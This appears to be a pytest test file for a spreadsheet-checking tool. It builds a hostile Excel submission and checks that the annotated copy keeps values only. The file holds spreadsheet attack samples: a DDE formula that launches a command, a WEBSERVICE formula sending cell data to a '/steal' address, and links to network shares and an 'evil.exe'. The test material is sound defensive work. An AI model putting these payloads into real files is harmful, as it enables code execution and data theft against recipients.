"""An annotated copy goes back to the clerk's computer: nothing the sender put in the file
that could run or reach out survives in it (formulas, external links, macros, hyperlinks
to a share)."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from conftest import AS_OF, a2_values, annex_grid, cli
from openpyxl.styles import Border, Side

LIVE = {
    "K1": "=cmd|' /C calc'!A0",
    "K2": '=WEBSERVICE("http://10.0.0.9/steal?"&B5)',
    "K3": '=HYPERLINK("\\\\fileserver\\share\\evil.xlsx","点此核对")',
    "K4": "=[1]Sheet1!$A$1",
}
SHARE = "file://///fileserver/share/evil.exe"


def _with_external_link(data: bytes) -> bytes:
    """``data`` with an externalLinks part pointing to a network share, as Excel writes it."""
    ns = "http://schemas.openxmlformats.org"
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info)
            if info.filename == "xl/workbook.xml":
                body = body.replace(
                    b"</sheets>",
                    f'</sheets><externalReferences><externalReference xmlns:r="{ns}/'
                    f'officeDocument/2006/relationships" r:id="rIdX1"/></externalReferences>'.encode(),
                )
            elif info.filename == "xl/_rels/workbook.xml.rels":
                body = body.replace(
                    b"</Relationships>",
                    f'<Relationship Id="rIdX1" Type="{ns}/officeDocument/2006/relationships/'
                    f'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'.encode(),
                )
            elif info.filename == "[Content_Types].xml":
                body = body.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="'
                    b'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
                    b"</Types>",
                )
            target.writestr(info, body)
        target.writestr(
            "xl/externalLinks/externalLink1.xml",
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="{ns}/'
            f'spreadsheetml/2006/main" xmlns:r="{ns}/officeDocument/2006/relationships">'
            '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            "</externalBook></externalLink>",
        )
        target.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{ns}/'
            f'package/2006/relationships"><Relationship Id="rId1" Type="{ns}/officeDocument/2006/'
            'relationships/externalLinkPath" Target="file://///fileserver/share/prices.xlsx" '
            'TargetMode="External"/></Relationships>',
        )
    return out.getvalue()


def _hostile_submission(path: Path, far: str | None = None) -> Path:
    """A faulty Annex 2 (a 10-digit mobile) carrying live formulas, a hyperlink to a share,
    a name of the sender's and an external link (openpyxl must be able to open it, or the
    copy would be rebuilt from values anyway); ``far``: an empty cell formatted there."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "附件2"
    for r, values in enumerate(annex_grid(2, [a2_values(1, mobile="1381234567")]), start=1):
        for c, value in enumerate(values, start=1):
            if value is not None:
                sheet.cell(r, c, value)
    for ref, formula in LIVE.items():
        sheet[ref] = formula
    sheet["B5"].hyperlink = SHARE
    if far:
        sheet[far].border = Border(bottom=Side(style="thin"))
    book.defined_names["价格"] = openpyxl.workbook.defined_name.DefinedName(
        "价格", attr_text="[1]Sheet1!$A$1"
    )
    buffer = io.BytesIO()
    book.save(buffer)
    path.write_bytes(_with_external_link(buffer.getvalue()))
    return path


def test_the_hostile_submission_carries_what_it_claims(tmp_path: Path) -> None:
    path = _hostile_submission(tmp_path / "附件2.xlsx")
    with zipfile.ZipFile(path) as archive:
        assert "xl/externalLinks/externalLink1.xml" in archive.namelist()
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" in sheet and "WEBSERVICE" in sheet and "hyperlink" in sheet
    book = openpyxl.load_workbook(path)  # as the annotator opens it
    assert book._external_links and book["附件2"]["K2"].data_type == "f"


@pytest.mark.parametrize("far", [None, "AZ70000"])
def test_an_annotated_copy_holds_values_only(tmp_path: Path, far: str | None) -> None:
    """``far``: a cell formatted far out makes the used range too large to visit each of
    its cells for links: the copy is rebuilt from the values, with no link either."""
    path = _hostile_submission(tmp_path / "附件2.xlsx", far)
    out = tmp_path / "附件2（已标注）.xlsx"
    ran = cli("check", path, "--annotate", out, "--as-of", AS_OF)
    assert ran.code == 1, ran.output
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        xml = "".join(
            archive.read(n).decode("utf-8", "replace")
            for n in names
            if n.endswith((".xml", ".rels"))
        )
    assert not [n for n in names if "externalLink" in n or "vbaProject" in n]
    assert not re.search(r"<(\w+:)?f[ >]", xml), "a formula survived"
    for word in ("cmd|", "WEBSERVICE", "HYPERLINK", "fileserver", 'TargetMode="External"'):
        assert word not in xml, word
    book = openpyxl.load_workbook(out)
    assert "价格" not in book.defined_names
    sheet = book["附件2"]
    assert sheet["G5"].comment is not None  # still annotated: the mobile is marked
    assert sheet["B5"].hyperlink is None
    assert sheet.max_row < 70_000  # rebuilt from the values: the formatted far cell is gone
